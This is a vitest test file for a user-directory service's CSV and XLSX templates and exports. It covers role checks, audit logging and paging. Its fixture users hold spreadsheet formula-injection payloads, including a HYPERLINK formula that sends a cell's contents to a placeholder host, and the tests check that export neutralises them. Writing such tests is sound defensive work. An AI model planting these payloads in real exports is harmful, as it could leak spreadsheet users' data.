import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { unescapeFormula } from '../../src/bulk/formula.js';
import { USER_EXPORT_COLUMNS, USER_TEMPLATE_COLUMNS } from '../../src/directory/file-format.js';
import type { User, UserListQuery, UserSort, UserTuple } from '../../src/directory/model.js';
import type { Page } from '../../src/core/paging.js';
import { EXPORT_WINDOW_ROWS } from '../../src/directory/service.js';
import { createTestPippin, uploadUsers, waitForJob, type TestPippin } from '../support/app.js';
import { ENGINES } from '../support/db.js';

const readXlsx = async (body: Buffer) => {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(body as unknown as ArrayBuffer);
  return wb;
};

describe.each(ENGINES)('users template and export on %s', (engine) => {
  let t: TestPippin;
  const tricky = [
    { username: 'formula', email: 'f@x.example', fullName: '=HYPERLINK("http://x/?"&A1,"y")', phone: '+1 555 0100' },
    { username: 'breakout', email: 'b@x.example', fullName: '=1+2";=1+2' },
    { username: 'minus', email: 'm@x.example', fullName: '-42', groups: ['@admins', 'Sales'] },
    { username: 'fullwidth', email: 'w@x.example', fullName: '＝cmd' },
    { username: 'quoted', email: 'q@x.example', fullName: "'=already" },
    { username: 'plain', email: 'p@x.example', fullName: 'Zoë Ångström, Jr.', managedAppleId: 'plain@appleid.example.com' },
  ];
  beforeAll(async () => {
    t = await createTestPippin(engine);
    for (const u of tricky) expect((await t.call(t.owner, 'POST', '/api/v1/users', u)).statusCode).toBe(201);
  });
  afterAll(() => t?.close());

  it('serves the CSV template: BOM, the columns, one example row', async () => {
    const res = await t.call(t.owner, 'GET', '/api/v1/users/template?format=csv');
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toMatch(/text\/csv/);
    expect(res.headers['content-disposition']).toContain('users-template.csv');
    expect(res.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const rows = parse(res.rawPayload, { bom: true }) as string[][];
    expect(rows[0]).toEqual(USER_TEMPLATE_COLUMNS.map((c) => c.header));
    expect(rows).toHaveLength(2);
    expect(rows[1]![rows[0]!.indexOf('Managed Apple ID')]).toMatch(/@appleid\.example\.com$/);
  });

  it("refuses the template's example row left in the file, and imports the rows added below it", async () => {
    const template = (await t.call(t.owner, 'GET', '/api/v1/users/template?format=csv')).rawPayload.toString('utf8');
    // The example row as downloaded (its phone formula-escaped), then the example edited (its
    // username, email and MAID changed: a real row now), then an added user.
    const example = template.trim().split('\r\n')[1]!;
    expect(example).toContain("'+1 555 0100");
    const edited = example.replace('jane.doe@example.com', 'jane.doe@corp.example');
    const csv = `${template.trimEnd()}\r\n${edited.replace('jane.doe,', 'jane.two,').replace('jane.doe@appleid', 'jane.two@appleid')}\r\nadded,,added@corp.example,Add Ed,,,,\r\n`;
    const job = await waitForJob(t, t.owner, (await uploadUsers(t, t.owner, 'users-template.csv', csv)).json().id);
    expect(job).toMatchObject({ status: 'succeeded', counts: { created: 2, failed: 1 } });
    const lines = parse((await t.call(t.owner, 'GET', `/api/v1/jobs/${job.id}/results`)).rawPayload, { bom: true, columns: true }) as Record<string, string>[];
    expect(lines.map((l) => [l.Row, l.Result, l.Code])).toEqual([['2', 'Failed', 'TEMPLATE_EXAMPLE'], ['3', 'Created', ''], ['4', 'Created', '']]);
    expect(lines[0]!.Message).toContain("template's example row");
    const found = (await t.call(t.owner, 'GET', '/api/v1/users?q=jane')).json().items.map((u: User) => u.username);
    expect(found).toEqual(['jane.two']);
    for (const u of ['jane.two', 'added']) {
      const id = (await t.call(t.owner, 'GET', `/api/v1/users?q=${u}`)).json().items[0].id;
      expect((await t.call(t.owner, 'DELETE', `/api/v1/users/${id}`)).statusCode).toBe(204);
    }
  });

  it('serves the XLSX template with a styled header, widths and an Instructions sheet', async () => {
    const res = await t.call(t.owner, 'GET', '/api/v1/users/template?format=xlsx');
    expect(res.statusCode).toBe(200);
    expect(res.rawPayload.subarray(0, 4)).toEqual(Buffer.from('PK\u0003\u0004', 'binary'));
    const wb = await readXlsx(res.rawPayload);
    expect(wb.worksheets.map((w) => w.name)).toEqual(['Users', 'Instructions']);
    const users = wb.getWorksheet('Users')!;
    expect((users.getRow(1).values as unknown[]).slice(1)).toEqual(USER_TEMPLATE_COLUMNS.map((c) => c.header));
    expect(users.getRow(1).getCell(1).font?.bold).toBe(true);
    expect(users.getColumn(8).width).toBeGreaterThan(20);
    expect(users.rowCount).toBe(2);
    const instructions = wb.getWorksheet('Instructions')!;
    expect(JSON.stringify(instructions.getSheetValues())).toContain('Managed Apple ID');
  });

  it('exports CSV with formula triggers neutralised, one cell per value, and reversible', async () => {
    const res = await t.call(t.owner, 'GET', '/api/v1/users/export?format=csv&sort=username');
    expect(res.statusCode).toBe(200);
    expect(res.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const rows = parse(res.rawPayload, { bom: true }) as string[][];
    expect(rows[0]).toEqual(USER_EXPORT_COLUMNS.map((c) => c.header));
    expect(new Set(rows.map((r) => r.length))).toEqual(new Set([USER_EXPORT_COLUMNS.length]));
    const col = (name: string) => rows[0]!.indexOf(name);
    const byName = new Map(rows.slice(1).map((r) => [r[col('Username')]!, r]));
    expect(byName.get('formula')![col('Full Name')]).toBe(`'=HYPERLINK("http://x/?"&A1,"y")`);
    expect(byName.get('formula')![col('Phone Number')]).toBe("'+1 555 0100");
    expect(byName.get('breakout')![col('Full Name')]).toBe(`'=1+2";=1+2`);
    expect(byName.get('minus')![col('Groups')]).toBe("'@admins;Sales");
    expect(byName.get('fullwidth')![col('Full Name')]).toBe("'＝cmd");
    expect(byName.get('plain')![col('Managed Apple ID')]).toBe('plain@appleid.example.com');
    for (const u of tricky) {
      expect(unescapeFormula(byName.get(u.username)![col('Full Name')]!)).toBe(u.fullName);
    }
    expect(byName.get('plain')![col('User ID')]).toMatch(/^[0-9a-f-]{36}$/);
  });

  it('exports XLSX with plain string cells, neutralised the same way', async () => {
    const res = await t.call(t.owner, 'GET', '/api/v1/users/export?format=xlsx');
    expect(res.statusCode).toBe(200);
    const ws = (await readXlsx(res.rawPayload)).getWorksheet('Users')!;
    const values: string[] = [];
    ws.eachRow((row, i) => {
      if (i > 1) row.eachCell((cell) => {
        expect(cell.type).toBe(ExcelJS.ValueType.String);
        values.push(String(cell.value));
      });
    });
    expect(values).toContain(`'=HYPERLINK("http://x/?"&A1,"y")`);
    expect(values).toContain("'-42");
  });

  it("applies the list's filters and sort, and audits who exported what", async () => {
    const res = await t.call(t.owner, 'GET', '/api/v1/users/export?format=csv&managedAppleId=missing&sort=-username&q=f');
    const rows = parse(res.rawPayload, { bom: true }) as string[][];
    expect(rows.slice(1).map((r) => r[0])).toEqual(['fullwidth', 'formula']);
    const events = (await t.call(t.owner, 'GET', '/api/v1/audit?action=user.export')).json().items;
    expect(events[0].after).toMatchObject({ format: 'csv', rows: 2, filter: { managedAppleId: 'missing', q: 'f', sort: 'username', descending: true } });
    expect(events[0].actor.label).toBe('owner@example.com');
  });

  it('refuses an export to roles without it (helpdesk, auditor), and lets an admin', async () => {
    for (const role of ['helpdesk', 'auditor'] as const) {
      const c = await t.adminWithRole(role);
      const res = await t.call(c, 'GET', '/api/v1/users/export');
      expect(res.statusCode).toBe(403);
      expect(res.json().error.code).toBe('FORBIDDEN');
      expect((await t.call(c, 'GET', '/api/v1/users/template')).statusCode).toBe(200);
    }
    expect((await t.call(await t.adminWithRole('admin'), 'GET', '/api/v1/users/export')).statusCode).toBe(200);
  });

  it('reads for an export exactly what the list shows: every sort, filter and search, page by page, odd values included', async () => {
    const odd = [
      { username: 'odd.one', email: 'odd1@x.example', fullName: 'Back\\slash "Quote" Ørsted 😀', phone: '(0)1 23', groups: ['a,b', 'Ünïcode', '"q"'], managedAppleId: 'odd.one@appleid.example.com' },
      { username: 'odd.two', domain: 'other.example', email: 'odd2@x.example', fullName: 'Ørsted Two', authType: 'saml' },
      { username: 'odd.three', email: 'odd3@x.example', fullName: '', groups: [] },
    ];
    for (const u of odd) expect((await t.call(t.owner, 'POST', '/api/v1/users', u)).statusCode).toBe(201);
    const asTuple = (u: User): UserTuple => [
      u.username, u.domain, u.email, u.fullName, u.phone, u.groups, u.authType, u.managedAppleId, u.id, u.status, u.createdAt, u.updatedAt, u.devices,
    ];
    const walk = async <T>(query: UserListQuery, read: 'list' | 'listTuples'): Promise<T[][]> => {
      const pages: T[][] = [];
      let cursor: string | undefined;
      do {
        const page = (await t.services.uow.inAccount(t.accountId, (s): Promise<Page<unknown>> => s.users[read](query, { limit: 2, cursor }))) as Page<T>;
        pages.push(page.items);
        cursor = page.nextCursor ?? undefined;
      } while (cursor);
      return pages;
    };
    const sorts: UserSort[] = ['username', 'fullName', 'email', 'managedAppleId', 'createdAt'];
    const queries: UserListQuery[] = [
      ...sorts.flatMap((sort) => [{ sort }, { sort, descending: true }]),
      { sort: 'username', managedAppleId: 'present' },
      { sort: 'email', managedAppleId: 'missing', descending: true },
      { sort: 'username', q: 'ørsted' },
      { sort: 'username', q: 'odd', descending: true },
      { sort: 'fullName', q: 'o' },
    ];
    for (const query of queries) {
      const users = await walk<User>(query, 'list');
      expect(users.flat().length).toBeGreaterThan(0);
      expect(await walk<UserTuple>(query, 'listTuples')).toEqual(users.map((page) => page.map(asTuple)));
    }
  });

  it('pages a one-term search in username order exactly as the whole match set sorts, forwards and backwards, whichever index matched', async () => {
    // Users matched by "sea" through each index: username, email, MAID, full name, a later name word; several through more than one.
    const people = [
      { username: 'seal', email: 'a1@x.example', fullName: 'Plain One' },
      { username: 'zeta', email: 'sea.mail@x.example', fullName: 'Plain Two' },
      { username: 'alpha', email: 'a2@x.example', fullName: 'Plain Three', managedAppleId: 'sea.maid@appleid.example.com' },
      { username: 'mid', email: 'a3@x.example', fullName: 'Sean Fullname' },
      { username: 'last', email: 'a4@x.example', fullName: 'Ann Seaborn' },
      { username: 'seam', email: 'seam@x.example', fullName: 'Sea Sea', managedAppleId: 'seam@appleid.example.com' },
      { username: 'seam', domain: 'other.example', email: 'a5@x.example', fullName: 'Other Domain' },
      { username: 'nomatch', email: 'b@x.example', fullName: 'Nobody Here' },
    ];
    for (const u of people) expect((await t.call(t.owner, 'POST', '/api/v1/users', u)).statusCode).toBe(201);
    const walk = async (query: UserListQuery, limit: number) => {
      const seen: User[] = [];
      let cursor: string | undefined;
      let total = -1;
      do {
        const page = await t.services.uow.inAccount(t.accountId, (s) => s.users.list(query, { limit, cursor }));
        seen.push(...page.items);
        total = page.total;
        cursor = page.nextCursor ?? undefined;
      } while (cursor);
      return { seen, total };
    };
    // The whole match set, through the other search path (every sort but username reads it whole), in username order.
    const key = (u: User) => [u.username.toLowerCase(), u.domain, u.id] as const;
    const order = (a: User, b: User) => { const [x, y] = [key(a), key(b)]; for (let i = 0; i < 3; i++) if (x[i] !== y[i]) return x[i]! < y[i]! ? -1 : 1; return 0; };
    const whole = (await walk({ sort: 'fullName', q: 'sea' }, 200)).seen.sort(order);
    expect(whole.map((u) => `${u.username}@${u.domain}`)).toEqual(['alpha@example.com', 'last@example.com', 'mid@example.com', 'seal@example.com', 'seam@example.com', 'seam@other.example', 'zeta@example.com']);
    for (const limit of [1, 2, 3, 50]) {
      const up = await walk({ sort: 'username', q: 'sea' }, limit);
      expect(up.seen.map((u) => u.id)).toEqual(whole.map((u) => u.id));
      expect(up.total).toBe(whole.length);
      const down = await walk({ sort: 'username', q: 'SEA', descending: true }, limit);
      expect(down.seen.map((u) => u.id)).toEqual([...whole].reverse().map((u) => u.id));
    }
  });

  it('exports every user exactly once, in order, when they span several read windows', async () => {
    const n = 2 * EXPORT_WINDOW_ROWS + 3;
    const file = ['Username,Email Address,Full Name', ...Array.from({ length: n }, (_, i) => `win${String(i).padStart(5, '0')},win${i}@x.example,Window ${i}`)].join('\n');
    const job = await waitForJob(t, t.owner, (await uploadUsers(t, t.owner, 'windows.csv', file)).json().id);
    expect(job.counts.created).toBe(n);
    for (const sort of ['username', '-username']) {
      const res = await t.call(t.owner, 'GET', `/api/v1/users/export?format=csv&sort=${sort}&q=win`);
      const names = (parse(res.rawPayload, { bom: true }) as string[][]).slice(1).map((r) => r[0]!);
      const expected = Array.from({ length: n }, (_, i) => `win${String(i).padStart(5, '0')}`);
      expect(names).toEqual(sort === 'username' ? expected : expected.reverse());
      const events = (await t.call(t.owner, 'GET', '/api/v1/audit?action=user.export')).json().items;
      expect(events[0].after).toMatchObject({ rows: n });
    }
  });

  it('refuses a bad format', async () => {
    expect((await t.call(t.owner, 'GET', '/api/v1/users/export?format=xls')).statusCode).toBe(400);
  });
});
